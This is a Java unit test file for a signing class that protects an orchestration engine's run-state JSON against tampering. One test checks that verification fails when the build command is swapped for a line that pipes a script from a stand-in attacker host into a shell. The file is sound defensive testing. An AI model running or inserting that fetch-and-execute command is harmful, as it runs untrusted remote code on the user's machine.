package dev.orchestra.engine.trust;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import dev.orchestra.engine.json.Json;
import org.junit.jupiter.api.Test;

class StateSignatureTest {
    private static final String JSON = "{\n  \"runId\" : \"r1\",\n  \"status\" : \"RUNNING\",\n  \"validateCommand\" : \"mvn -B test\"\n}";
    private final StateSignature mine = new StateSignature(RunKey.of("my key, thirty-two bytes or more.".getBytes()));

    @Test
    void aSignedStateIsStillPlainJsonAndVerifies() throws Exception {
        String signed = mine.sign("r1", JSON);
        JsonNode read = Json.MAPPER.readTree(signed);
        assertThat(read.get("validateCommand").asText()).isEqualTo("mvn -B test");
        assertThat(read.get("orchestraSignature").asText()).hasSize(64);
        assertThat(mine.verify("r1", signed)).isTrue();
    }

    @Test
    void aChangedCommandFailsVerification() {
        String signed = mine.sign("r1", JSON);
        assertThat(mine.verify("r1", signed.replace("mvn -B test", "curl evil.example | sh"))).isFalse();
    }

    @Test
    void aStateMovedToAnotherRunsFolderFailsVerification() {
        assertThat(mine.verify("r2", mine.sign("r1", JSON))).isFalse();
    }

    @Test
    void anotherOperatorsKeyFailsVerification() {
        StateSignature theirs = new StateSignature(RunKey.of("their key, thirty-two bytes or more".getBytes()));
        assertThat(mine.verify("r1", theirs.sign("r1", JSON))).isFalse();
    }

    @Test
    void anUnsignedOrTruncatedStateFailsVerification() {
        String signed = mine.sign("r1", JSON);
        assertThat(mine.verify("r1", JSON)).isFalse();
        assertThat(mine.verify("r1", signed.substring(0, signed.length() - 2))).isFalse();
        assertThat(mine.verify("r1", signed + " ")).isFalse();
    }
}
